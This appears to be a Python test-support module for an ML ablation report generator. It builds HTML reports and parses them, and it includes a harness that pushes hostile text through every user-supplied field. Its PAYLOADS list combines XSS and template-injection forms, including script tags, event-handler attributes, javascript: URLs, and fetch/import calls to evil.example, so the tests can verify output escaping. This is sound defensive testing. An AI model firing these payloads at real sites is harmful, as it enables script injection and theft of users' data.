"""Pages of comparisons, what a parsed page is made of, and texts that try to be more than text."""

import re
from collections import Counter
from collections.abc import Sequence
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, cast

from ablation.comparison.analysis.comparison import Comparability, ComparedVariant, Comparison, Difference, Metric
from ablation.comparison.reading.facts import RunFacts
from ablation.comparison.reading.run import Run
from ablation.comparison.reading.run_details import read_details
from ablation.report.html.page import Experiment, pages
from ablation.report.plots.build import plot_data
from ablation.report.tables.build import build_table
from ablation.rundir import layout
from ablation.rundir.record_parts import Git, Hardware, Steps

NAN = re.compile(r"\bnan\b|\bNone\b")
SENTENCES = ["plain34 is worse than resnet34.", "For the rest these seeds are inconclusive."]
COMMAND = ["ablate-compare", "out puts", "--margin", "0.02"]
# Elements that reach beyond the screen, except within what scrolls.
TOO_WIDE = """
() => [...document.querySelectorAll('body *')].filter((one) => {
  const box = one.getBoundingClientRect();
  const scrolled = one.closest('.scroll');
  if (!box.width || (scrolled && scrolled !== one && getComputedStyle(scrolled).overflowX === 'auto')) return false;
  return box.right > document.documentElement.clientWidth + 1 || box.left < -1;
}).map((one) => one.outerHTML.slice(0, 80))
"""


def experiment(
    made: Comparison,
    sentences: Sequence[str] = SENTENCES,
    command: Sequence[str] = COMMAND,
    run_commands: Sequence[str] = (),
    x_axis: str = "epoch",
) -> Experiment:
    """What `ablate-compare` hands to the page."""
    runs = [run for variant in made.variants for run in (*variant.runs, *variant.diverged)]
    details = read_details(runs, [path for path, _ in made.excluded])
    plots = plot_data(made, x_axis=x_axis)
    return Experiment(made, build_table(made), plots, sentences, command, run_commands, details)


def report(made: Comparison, *arguments: Any, **more: Any) -> bytes:
    """Its page. arguments, more: as of `experiment`."""
    return pages([experiment(made, *arguments, **more)])["report.html"]


class Document(HTMLParser):
    """What a parsed page is made of: elements with their attributes' names, and its text."""

    def __init__(self, page: bytes):
        super().__init__()
        self.elements, self.values, self.text = Counter(), [], []
        self.feed(page.decode())

    def handle_starttag(self, tag, attrs):
        self.text.append(" ")
        self.elements[tag, tuple(sorted(name for name, _ in attrs))] += 1
        self.values += [(tag, name, value) for name, value in attrs]

    def handle_data(self, data):
        if self.cdata_elem is None:  # neither script nor style
            self.text.append(data)


def shown(page: bytes) -> str:
    return re.sub(r"\s+", " ", "".join(Document(page).text))


SCRIPTS = (
    "alert(1)", "window.hit=1", "fetch('//evil.example/x')", "document.title='hit'", "import('//evil.example/x.js')",
)  # fmt: skip
FORMS = (
    "<script>{}</script>", "</script><script>{}</script>", "</style><script>{}</script>", "<img src=x onerror={}>",
    '"><svg onload={}>', "'><svg/onload={}>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<a href="javascript:{}">x</a>', "-->{{{{<b onclick={}>", "]]><script>{}</script>",
    "</pre><details open ontoggle={}>", "</title><script>{}</script>", "</textarea><input autofocus onfocus={}>",
    "<math><mtext></form><form><mglyph><style>{}", "<link rel=stylesheet href='//evil.example/{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='//evil.example/'>{}",
    "{{{{ self.__init__.__globals__ }}}} {{% for x in y %}}{}", "\u2028\u2029<script>{}</script>",
    "\x00<scr\x00ipt>{}</script>\x1b]8;;http://evil.example\x07",
)  # fmt: skip
PAYLOADS = [form.format(script) for form in FORMS for script in SCRIPTS]


def through_everything(study: Comparison, text: str) -> Comparison:
    """The study with a text in every place that takes one from outside."""

    def run(one):
        more = {"name": text, "started": text} if isinstance(one, Run) else {}
        more |= {"tags": (text, text), "config": {**one.config, text: text}}
        if isinstance(one, Run):
            more["facts"] = RunFacts(
                one.facts.data, code=text, git=Git(text), versions={text: text}, hardware=Hardware([text]),
                steps=Steps(cast(Any, text)),
            )  # fmt: skip
        return replace(one, network=text, data=text, digest=text, fingerprint=text, **more)

    def row(one: ComparedVariant, index: int) -> ComparedVariant:
        label = f"{text}{index}"
        found = one.result and replace(one.result, diagnostics=(text,))
        gate = Comparability(
            (Difference(text, text, text),) if one.comparability.blocking else (), (Difference(text, text, text),)
        )
        return replace(
            one, label=label, runs=tuple(map(run, one.runs)), diverged=tuple(map(run, one.diverged)), result=found,
            differs={text: (text, text)}, removed=(text,), co_changes=(text,), reference=f"{text}0", comparability=gate,
        )  # fmt: skip

    return replace(
        study,
        metric=Metric(text, f"test_accuracy{text}", text, images=360),
        variants=tuple(row(one, i) for i, one in enumerate(study.variants)),
        baseline=f"{text}0",
        study=text,
        question=text,
        plan=text,
        excluded=((Path("/tmp") / text.replace("\0", ""), text),),
        superseded=(run(study.variants[0].runs[0]),),
        warnings=(text, f"{text}."),
    )


def hostile(study: Comparison, text: str) -> bytes:
    (study.variants[0].runs[0].path / layout.LOG).write_text(text, encoding="utf-8")
    return report(through_everything(study, text), [text], [text], [text])
